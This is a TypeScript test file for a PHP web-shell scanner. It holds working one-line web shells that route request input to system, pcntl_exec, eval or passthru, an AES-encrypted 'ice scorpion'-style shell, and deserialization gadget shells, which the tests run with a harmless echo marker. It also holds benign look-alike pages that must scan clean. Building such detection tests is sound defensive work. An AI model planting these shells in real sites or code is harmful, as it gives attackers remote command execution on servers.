import { after, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createCipheriv } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createScanner } from './scanner.js';

// One-line shells the flow pass missed (each scanned clean or only suspicious before): request
// input through parse_str, php://input read by file_get_contents or fopen, a foreach key, an
// indexed call (array_keys($_GET)[0]), array values given to a sink or a caller, pcntl_exec's
// arguments, a function name put together in variables, a shell function registered with SQLite.
// Each is run by PHP where it is here, with a request that makes it run `echo` (its output shows
// it ran): the CLI for the query string, php-cgi for a request body.
const scanner = createScanner({});
const dir = mkdtempSync(join(tmpdir(), 'mamori-flow-variants-'));
after(() => rmSync(dir, { recursive: true, force: true }));

const has = (cmd: string) => spawnSync(cmd, ['-v'], { encoding: 'utf8' }).status === 0;
const php = has('php');
const cgi = has('php-cgi');
if (!php) console.log('# PHP CLI not found: the samples are scanned but not run');
if (!cgi) console.log('# php-cgi not found: the samples that read a request body are scanned but not run');

const MARK = `ran${process.pid}`;

interface Sample {
  name: string;
  src: string;
  /** A whole file (src is then not wrapped in "<?php"). */
  file?: boolean;
  /** PHP that sets the request up (CLI), or a body to POST (php-cgi). */
  boot?: string;
  body?: string;
  /** Needs an extension the CLI may lack: scanned only. */
  scanOnly?: boolean;
}

const SAMPLES: Sample[] = [
  { name: 'a function name put together in variables', src: `$a = 'sys'; $b = 'tem'; $c = $a.$b; $c($_GET['x']);`, boot: `$_GET['x'] = 'echo ${MARK}';` },
  { name: 'the query string parsed into a variable', src: `parse_str($_SERVER['QUERY_STRING'], $q); $q['f']($q['c']);`, boot: `$_SERVER['QUERY_STRING'] = 'f=system&c=echo+${MARK}';` },
  { name: 'request input in an array beside a sink name', src: `array_filter([$_GET['c']], 'system');`, boot: `$_GET['c'] = 'echo ${MARK}';` },
  { name: 'a foreach key called with its value', src: `foreach ($_POST as $k => $v) $k($v);`, boot: `$_POST = ['system' => 'echo ${MARK}'];` },
  { name: 'php://input decoded as JSON', src: `$d = json_decode(file_get_contents('php://input'), true); system($d['c']);`, body: JSON.stringify({ c: `echo ${MARK}` }) },
  { name: 'php://input read through fopen', src: `$f = fopen('php://input','r'); $c = fgets($f); system($c);`, body: `echo ${MARK}` },
  { name: 'a shell function registered with SQLite', src: `$s = new SQLite3(':memory:'); $s->createFunction('x', 'system'); $s->query("select x('" . $_GET['c'] . "')");`, scanOnly: true },
  { name: 'a sink name joined from pieces, given to array_walk', src: `$cb = 'sys' . 'tem'; array_walk($_GET, $cb);`, boot: `$_GET = ['c' => 'echo ${MARK}'];` },
  { name: 'the first query key called with its value', src: `$k = array_keys($_GET)[0]; $k($_GET[$k]);`, boot: `$_GET = ['system' => 'echo ${MARK}'];` },
  { name: 'a command joined from a variable of the code and request input', src: `$p = 'echo '; system($p . $_GET['c']);`, boot: `$_GET['c'] = '${MARK}';` },
  { name: 'a sink name joined from literals in parentheses and called (S19P-8)', src: `("sys" . "tem")($_GET['c']);`, boot: `$_GET['c'] = 'echo ${MARK}';` },
  { name: "pcntl_exec's arguments", src: `$c = trim($_GET['c']); pcntl_exec('/bin/sh', ['-c', $c]);`, boot: `$_GET['c'] = 'echo ${MARK}';` },
];

/** What PHP prints running the sample with its request. */
function runByPhp(s: Sample): string | undefined {
  const f = join(dir, 'shell.php');
  writeFileSync(f, s.file ? s.src : `<?php ${s.src}\n`);
  if (s.body !== undefined) {
    if (!cgi) return undefined;
    const env = { ...process.env, REQUEST_METHOD: 'POST', CONTENT_TYPE: 'application/octet-stream', CONTENT_LENGTH: String(Buffer.byteLength(s.body)), SCRIPT_FILENAME: f, REDIRECT_STATUS: '1', GATEWAY_INTERFACE: 'CGI/1.1' };
    return spawnSync('php-cgi', [], { input: s.body, env, encoding: 'utf8', timeout: 20_000 }).stdout;
  }
  if (!php) return undefined;
  return spawnSync('php', ['-d', 'display_errors=stderr', '-r', `${s.boot ?? ''} include $argv[1];`, f], { encoding: 'utf8', timeout: 20_000 }).stdout;
}

describe('scan: one-line shells through the less used ways in', () => {
  for (const s of SAMPLES) {
    it(s.name, () => {
      const r = scanner.scanBuffer(Buffer.from(`<?php ${s.src}\n`), '/www/x.php');
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      if (s.scanOnly) return;
      const out = runByPhp(s);
      if (out !== undefined) assert.match(out, new RegExp(MARK), 'PHP runs it');
    });
  }
  it(`ran all ${SAMPLES.length} samples`, () => assert.equal(SAMPLES.length, 12));
});

describe('scan: the same ways in, used as applications use them, stay clean', () => {
  const pages = [
    `parse_str($_SERVER['QUERY_STRING'], $q); echo htmlspecialchars($q['page'] ?? 'home');`,
    `foreach ($_POST as $k => $v) { $clean[$k] = trim($v); } echo count($clean);`,
    `$d = json_decode(file_get_contents('php://input'), true); echo json_encode(['ok' => isset($d['id'])]);`,
    `$a = 'str'; $b = 'toupper'; $f = $a . $b; echo $f('hello'), htmlspecialchars($_GET['name'] ?? '');`,
    `$k = array_keys($_GET)[0] ?? 'none'; echo htmlspecialchars($k);`,
    `$p = proc_open(['ls', '-l', '/tmp'], [1 => ['pipe', 'w']], $pipes); echo stream_get_contents($pipes[1]);`,
    // a controller dispatching by name without arguments, and unserialize() that makes no object
    `class A { function index() { echo 1; } function run($c) { system($c); } } $a = $_GET['a'] ?? 'index'; if ($a === 'index') { (new A)->$a(); }`,
    `class D { public $cmd; function __wakeup() { passthru($this->cmd); } } $p = unserialize(base64_decode($_COOKIE['s']), ['allowed_classes' => false]);`,
    // PHP text naming request values, built for eval (Zabbix's validate.inc.php): the whole is not request input
    `function c2($fields, $e) { foreach ($fields as $field => $x) { $e = str_replace('{' . $field . '}', '$_REQUEST["' . $field . '"]', $e); } return eval('return (' . $e . ') ? 1 : 0;'); } foreach ($_REQUEST['f'] as $key => $v) { c2(['a' => 1], '{a} > 0'); }`,
    // a command whose request part is escaped
    `$p = 'ls -- '; system($p . escapeshellarg($_GET['d']));`,
  ];
  for (const src of pages) {
    it(src.slice(0, 70), () => assert.equal(scanner.scanBuffer(Buffer.from(`<?php ${src}\n`), '/www/x.php').verdict, 'clean'));
  }
});

/** A body as the AES-128 shell below reads it: base64 of AES-128-CBC with a zero IV (what openssl_decrypt does with none). */
function aesBody(key: string, text: string): string {
  const c = createCipheriv('aes-128-cbc', Buffer.from(key), Buffer.alloc(16));
  return Buffer.concat([c.update(text), c.final()]).toString('base64');
}

const FAMILIES: Sample[] = [
  {
    name: 'an encrypted request body run by a class\'s __invoke through call_user_func (the AES "ice scorpion" shape)',
    file: true,
    src: `<?php
@error_reporting(0);
$k = "a1b2c3d4e5f6a7b8";
$in = file_get_contents("php://input");
if (!extension_loaded('openssl')) {
    $d = "base64_" . "decode";
    $in = $d($in . "");
    for ($i = 0; $i < strlen($in); $i++) { $in[$i] = $in[$i] ^ $k[$i + 1 & 15]; }
} else {
    $in = @openssl_decrypt($in, "AES128", $k);
}
$parts = explode('|', $in);
$arg = $parts[1];
class Runner { public function __invoke($p) { eval($p . ""); } }
@call_user_func(new Runner(), $arg);
`,
    body: aesBody('a1b2c3d4e5f6a7b8', `x|echo "${MARK}";`),
  },
  { name: 'an object called with request input', file: true, src: `<?php\nclass R { public function __invoke($p) { eval($p); } }\n$r = new R();\n$r($_POST['c']);\n`, boot: `$_POST['c'] = 'echo "${MARK}";';` },
  { name: 'a method chosen by the request', file: true, src: `<?php\nclass Q { function go($c) { system($c); } }\n$m = $_GET['m']; (new Q)->$m($_GET['c']);\n`, boot: `$_GET = ['m' => 'go', 'c' => 'echo ${MARK}'];` },
  { name: 'a property given request input, run by __destruct', file: true, src: `<?php\nclass S { public $c; public function __destruct() { system($this->c); } }\n$s = new S(); $s->c = $_GET['c'];\n`, boot: `$_GET['c'] = 'echo ${MARK}';` },
  { name: 'a cookie unserialized into a class whose __wakeup runs a property', file: true, src: `<?php\nclass D { public $cmd; function __wakeup() { passthru($this->cmd); } }\nunserialize(base64_decode($_COOKIE['s']));\n`, boot: `$_COOKIE['s'] = base64_encode('O:1:"D":1:{s:3:"cmd";s:${`echo ${MARK}`.length}:"echo ${MARK}";}');` },
];

describe('scan: shells of the known families, in our own words', () => {
  for (const s of FAMILIES) {
    it(s.name, () => {
      const r = scanner.scanBuffer(Buffer.from(s.src), '/www/x.php');
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      const out = runByPhp(s);
      if (out !== undefined) assert.match(out, new RegExp(MARK), 'PHP runs it');
    });
  }
});
